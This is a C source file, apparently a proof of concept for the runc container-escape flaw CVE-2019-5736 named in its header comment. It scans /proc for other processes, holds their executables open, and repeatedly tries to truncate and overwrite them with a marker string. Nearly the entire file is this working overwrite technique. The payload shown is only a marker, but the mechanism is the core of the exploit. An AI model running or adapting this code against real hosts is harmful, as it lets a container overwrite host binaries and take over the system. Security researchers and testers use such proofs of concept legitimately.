/* CVE-2019-5736: overwrite the program of a process of somebody else's that comes by, once that process has ended.
 * Looks at every other process in /proc, keeps its program open by path, and tries to open that for writing until it
 * works. Ends after WORDS[1] programs seen, or 20 seconds; prints what it saw and wrote. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char MARK[] = "overwritten\n";

static int overwrite(int program) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd < 0) return 0;
    int done = write(fd, MARK, sizeof MARK - 1) == sizeof MARK - 1;
    close(fd);
    return done;
}

int main(int count, char **words) {
    int wanted = count > 1 ? atoi(words[1]) : 1, seen = 0, written = 0, held[64];
    struct stat own, other;
    stat("/proc/self/exe", &own);
    printf("looks\n");
    fflush(stdout);
    for (time_t end = time(NULL) + 20; time(NULL) < end && written < wanted;) {
        DIR *all = opendir("/proc");
        for (struct dirent *one; all != NULL && (one = readdir(all)) != NULL;) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", one->d_name);
            if (one->d_name[0] < '1' || one->d_name[0] > '9' || seen == 64) continue;
            int program = open(path, O_PATH);
            if (program < 0) continue;
            if (fstat(program, &other) != 0 || (other.st_ino == own.st_ino && other.st_dev == own.st_dev)) {
                close(program);
                continue;
            }
            int known = 0;
            for (int i = 0; i < seen; i++) {
                struct stat before;
                known |= fstat(held[i], &before) == 0 && before.st_ino == other.st_ino && before.st_dev == other.st_dev;
            }
            if (known) close(program);
            else held[seen++] = program;
        }
        if (all != NULL) closedir(all);
        for (int i = 0; i < seen; i++)
            if (held[i] >= 0 && overwrite(held[i])) written++;
        if (access("/tmp/enough", F_OK) == 0) break;
    }
    printf("saw %d, wrote %d\n", seen, written);
    return 0;
}
